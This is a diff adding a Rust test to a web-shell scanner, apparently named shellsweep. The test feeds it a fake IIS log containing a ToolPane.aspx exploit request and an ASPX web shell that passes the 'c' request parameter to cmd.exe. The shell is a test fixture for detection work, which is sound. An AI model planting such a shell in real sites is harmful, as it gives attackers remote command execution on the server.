@@ -306,3 +306,40 @@ fn thread_counts_are_capped_at_what_the_machine_can_use() {
     assert!(threads <= 4 * cpus, "{threads} threads on {cpus} CPUs");
     assert!(stderr(&out).contains("-j 100000"), "{}", stderr(&out));
 }
+
+/// A page piped in under its name that opens like an IIS log is read as a log and by the
+/// file rules for that name, as in a tree; under a log's name, or without a name, as a log
+/// only (a piped log is the usual case there).
+#[test]
+fn a_page_dressed_as_a_log_on_stdin_is_matched_by_the_file_rules_for_its_name() {
+    let page = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n\
+                #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n\
+                2025-07-19 07:12:01 10.0.0.5 POST /_layouts/15/ToolPane.aspx DisplayMode=Edit&a=/ToolPane.aspx 443 - 192.0.2.66 Mozilla/5.0 200 0 0 12\r\n\
+                <%@ Page Language=\"C#\" %>\r\n<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\r\n";
+    let datasets = |name: Option<&str>| {
+        let mut args = vec!["scan", "--format", "jsonl"];
+        if let Some(n) = name {
+            args.extend(["--stdin-name", n]);
+        }
+        args.push("-");
+        let out = run_with_stdin(&args, page.as_bytes());
+        assert_eq!(code(&out), 1, "{name:?}: {}", stderr(&out));
+        let (findings, summary) = findings_and_summary(&out);
+        let s = &summary["shellsweep"]["summary"];
+        assert_eq!(s["logs"]["logs_scanned"], 1, "{name:?}: {s}");
+        assert_eq!(s["complete"], true, "{name:?}: {s}");
+        let mut d: Vec<String> = findings
+            .iter()
+            .map(|f| f["event"]["dataset"].as_str().unwrap().to_owned())
+            .collect();
+        d.sort();
+        d.dedup();
+        d
+    };
+    assert_eq!(
+        datasets(Some("LAYOUTS/spinstall0.aspx")),
+        ["shellsweep.file", "shellsweep.log"]
+    );
+    assert_eq!(datasets(Some("W3SVC1/u_ex250719.log")), ["shellsweep.log"]);
+    assert_eq!(datasets(None), ["shellsweep.log"]);
+}
